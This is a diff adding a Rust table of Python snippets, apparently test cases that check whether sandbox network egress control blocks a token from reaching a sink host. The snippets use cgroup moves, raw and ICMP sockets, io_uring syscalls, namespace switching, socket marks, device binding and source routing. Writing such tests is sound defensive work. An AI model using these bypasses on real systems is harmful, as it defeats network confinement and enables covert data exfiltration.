@@ -1,0 +1,358 @@
+//! The table of ways out. Rows are those of the design's table.
+
+/// What the same program does when nothing governs it.
+#[derive(Clone, Copy, PartialEq, Eq)]
+pub(super) enum Control {
+    /// The token arrives: the way is one.
+    Arrives,
+    /// This kernel or host may lack the protocol or the permission.
+    MayFail,
+}
+
+/// One way out.
+pub(super) struct Way {
+    pub(super) row: u8,
+    pub(super) name: &'static str,
+    /// Tried by root; otherwise by `nobody`.
+    pub(super) root: bool,
+    pub(super) control: Control,
+    pub(super) program: &'static str,
+}
+
+const fn way(row: u8, name: &'static str, program: &'static str) -> Way {
+    Way {
+        row,
+        name,
+        root: false,
+        control: Control::Arrives,
+        program,
+    }
+}
+
+const fn root(row: u8, name: &'static str, program: &'static str) -> Way {
+    Way {
+        row,
+        name,
+        root: true,
+        control: Control::Arrives,
+        program,
+    }
+}
+
+const fn rare(row: u8, name: &'static str, program: &'static str) -> Way {
+    Way {
+        row,
+        name,
+        root: true,
+        control: Control::MayFail,
+        program,
+    }
+}
+
+/// Names for what the map says, and a report instead of a traceback.
+pub(super) const PRELUDE: &str = r#"
+import ctypes, json, os, socket, struct, subprocess, sys, time
+where = json.loads(sys.argv[1])
+host, host6, port, device = where["host"], where["host6"], where["port"], where["device"]
+token, database = where["token"].encode(), where["database_port"]
+libc = ctypes.CDLL(None, use_errno=True)
+sys.excepthook = lambda kind, error, trace: print(kind.__name__, error)
+socket.setdefaulttimeout(3)
+def tcp(address):
+    with socket.create_connection(address) as s:
+        s.sendall(token)
+        s.shutdown(socket.SHUT_WR)
+        s.recv(1)
+"#;
+
+pub(super) const WAYS: &[Way] = &[
+    way(0, "plain-tcp", "tcp((host, port))"),
+    way(0, "plain-tcp6", "tcp((host6, port))"),
+    way(
+        0,
+        "plain-udp",
+        "socket.socket(type=socket.SOCK_DGRAM).sendto(token, (host, port))",
+    ),
+    way(
+        0,
+        "plain-udp6",
+        "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(token, (host6, port))",
+    ),
+    root(
+        1,
+        "other-cgroup",
+        r#"
+with open(where["free_cgroup"] + "/cgroup.procs", "w") as procs:
+    procs.write("0")
+tcp((host, port))
+"#,
+    ),
+    root(
+        2,
+        "child-cgroup",
+        r#"
+own = [line for line in open("/proc/self/cgroup") if line.startswith("0::")][0][4:].strip()
+mount = [line.split()[1] for line in open("/proc/mounts") if line.split()[2] == "cgroup2"][0]
+child = os.path.join(mount, own, "child")
+os.makedirs(child, exist_ok=True)
+with open(child + "/cgroup.procs", "w") as procs:
+    procs.write("0")
+tcp((host, port))
+"#,
+    ),
+    root(
+        3,
+        "raw-ip",
+        "socket.socket(socket.AF_INET, socket.SOCK_RAW, 253).sendto(token, (host, 0))",
+    ),
+    rare(
+        4,
+        "ping",
+        r#"
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+s.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + token, (host, 0))
+"#,
+    ),
+    rare(
+        9,
+        "mptcp",
+        r#"
+with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
+    s.connect((host, port))
+    s.sendall(token)
+    s.shutdown(socket.SHUT_WR)
+    s.recv(1)
+"#,
+    ),
+    rare(
+        9,
+        "sctp",
+        r#"
+with socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132) as s:
+    s.sendto(token, (host, port))
+"#,
+    ),
+    rare(
+        9,
+        "udplite",
+        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(token, (host, port))",
+    ),
+    rare(
+        10,
+        "io-uring",
+        r#"
+class Offsets(ctypes.Structure):
+    _fields_ = [(n, ctypes.c_uint32) for n in "head tail mask entries flags dropped array resv".split()] + [("addr", ctypes.c_uint64)]
+class Completions(ctypes.Structure):
+    _fields_ = [(n, ctypes.c_uint32) for n in "head tail mask entries overflow cqes flags resv".split()] + [("addr", ctypes.c_uint64)]
+class Params(ctypes.Structure):
+    _fields_ = [(n, ctypes.c_uint32) for n in "sq cq flags cpu idle features wq".split()] + [("resv", ctypes.c_uint32 * 3), ("sqo", Offsets), ("cqo", Completions)]
+import mmap
+params = Params()
+ring = libc.syscall(425, 4, ctypes.byref(params))
+if ring < 0:
+    raise OSError(ctypes.get_errno(), "io_uring_setup")
+sq = mmap.mmap(ring, params.sqo.array + params.sq * 4, offset=0)
+entries = mmap.mmap(ring, params.sq * 64, offset=0x10000000)
+def submit(opcode, fd, addr, length, offset):
+    tail = struct.unpack_from("I", sq, params.sqo.tail)[0]
+    index = tail & struct.unpack_from("I", sq, params.sqo.mask)[0]
+    entries[index * 64:index * 64 + 64] = struct.pack("=BBHiQQI", opcode, 0, 0, fd, offset, addr, length).ljust(64, b"\0")
+    struct.pack_into("I", sq, params.sqo.array + index * 4, index)
+    struct.pack_into("I", sq, params.sqo.tail, tail + 1)
+    print("enter", libc.syscall(426, ring, 1, 1, 1, 0, 0))
+s = socket.socket()
+s.setblocking(True)
+address = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8))
+submit(16, s.fileno(), ctypes.addressof(address), 0, 16)
+data = ctypes.create_string_buffer(token)
+submit(26, s.fileno(), ctypes.addressof(data), len(token), 0)
+time.sleep(0.2)
+"#,
+    ),
+    rare(
+        11,
+        "fast-open",
+        r#"
+s = socket.socket()
+MSG_FASTOPEN = 0x20000000
+s.sendto(token, MSG_FASTOPEN, (host, port))
+s.shutdown(socket.SHUT_WR)
+s.recv(1)
+"#,
+    ),
+    way(
+        12,
+        "sendmmsg",
+        r#"
+s = socket.socket(type=socket.SOCK_DGRAM)
+name = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8), 16)
+data = ctypes.create_string_buffer(token)
+vector = (ctypes.c_uint64 * 2)(ctypes.addressof(data), len(token))
+one = struct.pack("QI4xQQQQi4xI4x", ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)
+messages = ctypes.create_string_buffer(one * 2)
+print("sent", libc.sendmmsg(s.fileno(), messages, 2, 0), ctypes.get_errno())
+"#,
+    ),
+    way(
+        13,
+        "connected-udp",
+        r#"
+s = socket.socket(type=socket.SOCK_DGRAM)
+s.connect((host, port))
+s.send(token)
+"#,
+    ),
+    way(
+        14,
+        "packet-info",
+        r#"
+s = socket.socket(type=socket.SOCK_DGRAM)
+info = struct.pack("=I4s4s", socket.if_nametoindex(device), bytes(4), bytes(4))
+s.sendmsg([token], [(socket.IPPROTO_IP, 8, info)], 0, (host, port))
+"#,
+    ),
+    way(
+        15,
+        "connect-again",
+        r#"
+s = socket.create_connection(("127.0.0.1", database))
+unspecified = struct.pack("=H14x", socket.AF_UNSPEC)
+libc.connect(s.fileno(), unspecified, 16)
+s.connect((host, port))
+s.sendall(token)
+s.shutdown(socket.SHUT_WR)
+s.recv(1)
+"#,
+    ),
+    way(17, "mapped-tcp", "tcp((\"::ffff:\" + host, port))"),
+    way(
+        17,
+        "mapped-udp",
+        "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(token, (\"::ffff:\" + host, port))",
+    ),
+    root(
+        20,
+        "sink-namespace",
+        r#"
+with open("/run/netns/" + where["namespace"]) as namespace:
+    if libc.setns(namespace.fileno(), 0) != 0:
+        raise OSError(ctypes.get_errno(), "setns")
+tcp(("127.0.0.1", port))
+"#,
+    ),
+    way(
+        44,
+        "dns-to-a-sink",
+        "socket.socket(type=socket.SOCK_DGRAM).sendto(token, (host, 53))",
+    ),
+    way(
+        0,
+        "quic",
+        "socket.socket(type=socket.SOCK_DGRAM).sendto(token, (host, 443))",
+    ),
+    way(
+        52,
+        "daemonised",
+        r#"
+if os.fork():
+    os.wait()
+    time.sleep(0.5)
+    sys.exit()
+os.setsid()
+if os.fork():
+    os._exit(0)
+tcp((host, port))
+"#,
+    ),
+    root(
+        56,
+        "other-user",
+        r#"
+os.setgroups([])
+os.setresgid(65534, 65534, 65534)
+os.setresuid(65534, 65534, 65534)
+os.execv("/usr/bin/python3", ["python3", "-c", f"import socket; s = socket.create_connection(({host!r}, {port}), 3); s.sendall({token!r}); s.shutdown(1); s.recv(1)"])
+"#,
+    ),
+    way(
+        58,
+        "bind-and-wait",
+        r#"
+s = socket.create_server(("0.0.0.0", where["called_port"]))
+connection, peer = s.accept()
+connection.sendall(token)
+time.sleep(0.3)
+"#,
+    ),
+    way(
+        60,
+        "bound-device",
+        r#"
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode() + b"\0")
+s.connect((host, port))
+s.sendall(token)
+s.shutdown(socket.SHUT_WR)
+s.recv(1)
+"#,
+    ),
+    root(
+        60,
+        "mark",
+        r#"
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, 36, 0x1)
+s.connect((host, port))
+s.sendall(token)
+s.shutdown(socket.SHUT_WR)
+s.recv(1)
+"#,
+    ),
+    way(
+        64,
+        "bound-device-after-connect",
+        r#"
+s = socket.create_connection(("127.0.0.1", database))
+s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode() + b"\0")
+for attempt in range(5):
+    s.send(token)
+    time.sleep(0.05)
+"#,
+    ),
+    way(
+        65,
+        "source-route",
+        r#"
+s = socket.create_connection(("127.0.0.1", database))
+LOOSE = bytes([131, 7, 4]) + socket.inet_aton(host) + b"\0"
+s.setsockopt(socket.IPPROTO_IP, 4, LOOSE)
+s.send(token)
+time.sleep(0.2)
+"#,
+    )
+    .that_may_fail(),
+    way(
+        65,
+        "routing-header",
+        r#"
+s = socket.create_connection(("::1", database))
+segments = socket.inet_pton(socket.AF_INET6, "::1") + socket.inet_pton(socket.AF_INET6, host6)
+header = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + segments
+s.setsockopt(socket.IPPROTO_IPV6, 57, header)
+s.send(token)
+time.sleep(0.2)
+"#,
+    )
+    .that_may_fail(),
+];
+
+impl Way {
+    /// Whether the token arrives without a gateway depends on the kernel.
+    const fn that_may_fail(self) -> Way {
+        Way {
+            control: Control::MayFail,
+            ..self
+        }
+    }
+}
